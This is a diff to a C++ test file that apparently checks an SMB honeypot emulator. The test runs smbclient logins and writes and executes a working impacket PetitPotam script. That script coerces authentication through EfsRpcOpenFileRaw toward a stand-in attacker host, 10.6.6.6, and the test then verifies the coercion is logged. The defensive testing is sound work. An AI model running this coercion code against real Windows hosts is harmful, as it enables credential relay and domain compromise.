@@ -65,6 +65,31 @@ TEST(CliSmb, SmbclientImpacketAndNmapAgainstWindowsAndSambaPersonas) {
     EXPECT_THAT(capture("timeout 30 smbclient -L //127.201.0.10 -U 'CORP\\alice%wrong' 2>&1"),
                 HasSubstr("NT_STATUS_LOGON_FAILURE"));
 
+    // 139: the NetBIOS session request first, then the same SMB.
+    EXPECT_THAT(capture("timeout 30 smbclient -L //127.201.0.10 -p 139 -U "
+                        "'CORP\\alice%Winter2024!' 2>&1"),
+                ContainsRegex("Finance +Disk"));
+
+    // PetitPotam: EFSRPC bound over \pipe\lsarpc, EfsRpcOpenFileRaw(\\attacker\...),
+    // answered access denied as a patched host.
+    write_file(dir + "/coerce.py",
+               "from impacket.dcerpc.v5 import transport\n"
+               "from impacket.uuid import uuidtup_to_bin\n"
+               "from impacket.dcerpc.v5.ndr import NDRCALL\n"
+               "from impacket.dcerpc.v5.dtypes import WSTR, LONG\n"
+               "class EfsRpcOpenFileRaw(NDRCALL):\n"
+               "    opnum = 0\n"
+               "    structure = (('FileName', WSTR), ('Flags', LONG))\n"
+               "t = transport.SMBTransport('127.201.0.10', filename='\\\\lsarpc', "
+               "username='alice', password='Winter2024!', domain='CORP')\n"
+               "dce = t.get_dce_rpc(); dce.connect()\n"
+               "dce.bind(uuidtup_to_bin(('c681d488-d850-11d0-8c52-00c04fd90f7e', '1.0')))\n"
+               "req = EfsRpcOpenFileRaw(); req['FileName'] = '\\\\\\\\10.6.6.6\\\\x\\x00'; "
+               "req['Flags'] = 0\n"
+               "try:\n    dce.request(req)\nexcept Exception as e:\n    print('answer:', e)\n");
+    EXPECT_THAT(capture("timeout 30 /usr/bin/python3 " + dir + "/coerce.py 2>&1"),
+                HasSubstr("rpc_s_access_denied"));
+
     write_file(dir + "/x.bin", "MZ uploaded by the attacker\n");
     const auto session = capture("cd " + dir +
                                  " && timeout 30 smbclient //127.201.0.10/Finance -U "
@@ -120,6 +145,12 @@ TEST(CliSmb, SmbclientImpacketAndNmapAgainstWindowsAndSambaPersonas) {
     ASSERT_FALSE(uploads.empty());
     EXPECT_THAT(uploads.front(), HasSubstr(R"("share":"Finance","path":"/x.bin","size":"28")"));
     EXPECT_FALSE(stored_fields(*repo, "service:smb event:share_enum", 5).empty());
+    std::string coercions;
+    for (const auto& c : stored_fields(*repo, "service:smb event:coercion_attempt", 5))
+        coercions += c;
+    EXPECT_THAT(coercions,
+                HasSubstr(R"("interface":"efsrpc","opnum":"0","target":"\\\\10.6.6.6\\x")"));
+    EXPECT_FALSE(stored_fields(*repo, "service:smb event:netbios_session", 5).empty());
 }
 
 }  // namespace
